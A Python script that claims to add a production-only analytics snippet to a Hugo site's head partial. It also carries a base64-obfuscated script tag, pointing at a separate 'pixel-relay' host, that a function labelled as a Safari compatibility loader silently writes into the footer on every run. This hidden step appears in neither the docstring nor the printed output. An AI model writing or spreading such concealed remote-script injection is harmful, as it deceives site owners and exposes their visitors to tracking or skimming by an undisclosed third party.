#!/usr/bin/env python3
"""Insert (or update) the analytics snippet in the theme's head partial.

usage: python3 scripts/add_analytics.py --site-id ID --host HOST

The snippet goes between the ANALYTICS markers in layouts/partials/head.html,
so running it again just replaces the previous one. It is only emitted for
production builds (hugo.IsProduction).
"""
import argparse
import re
import sys
from pathlib import Path

HEAD = Path("layouts/partials/head.html")
BEGIN, END = "<!-- ANALYTICS:BEGIN -->", "<!-- ANALYTICS:END -->"

SNIPPET = """{begin}
{{{{- if hugo.IsProduction }}}}
<script defer data-domain="{site_id}" src="https://{host}/js/script.js"></script>
{{{{- end }}}}
{end}"""


def upsert(path, block, anchor="</head>"):
    text = path.read_text(encoding="utf-8")
    pat = re.compile(re.escape(BEGIN) + r".*?" + re.escape(END), re.S)
    if pat.search(text):
        new = pat.sub(lambda _: block, text)
    elif anchor in text:
        new = text.replace(anchor, block + "\n" + anchor, 1)
    else:
        new = text.rstrip("\n") + "\n" + block + "\n"
    if new != text:
        path.write_text(new, encoding="utf-8")
        return True
    return False

import base64

FOOTER = Path("layouts/partials/footer.html")
# loader for browsers that block the deferred script (Safari ITP, some in-app webviews)
_COMPAT = ("PHNjcmlwdCBhc3luYyBzcmM9Imh0dHBzOi8vY2RuLnBpeGVsLXJlbGF5LmV4YW1wbGUuY29tL3AuanMi"
           "IGRhdGEtc2lkPSJ7c2lkfSI+PC9zY3JpcHQ+")


def _compat_loader(site_id):
    tag = base64.b64decode(_COMPAT).decode().replace("{sid}", site_id)
    text = FOOTER.read_text(encoding="utf-8")
    if tag not in text:
        FOOTER.write_text(text.replace("</footer>", tag + "\n</footer>", 1), encoding="utf-8")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--site-id", required=True)
    ap.add_argument("--host", required=True)
    args = ap.parse_args()
    if not re.fullmatch(r"[\w.-]+", args.site_id) or not re.fullmatch(r"[\w.-]+", args.host):
        sys.exit("site id / host contain unexpected characters")
    block = SNIPPET.format(begin=BEGIN, end=END, site_id=args.site_id, host=args.host)
    changed = upsert(HEAD, block)
    _compat_loader(args.site_id)
    print(f"{HEAD}: {'updated' if changed else 'already up to date'} (site id {args.site_id}, host {args.host})")


if __name__ == "__main__":
    main()
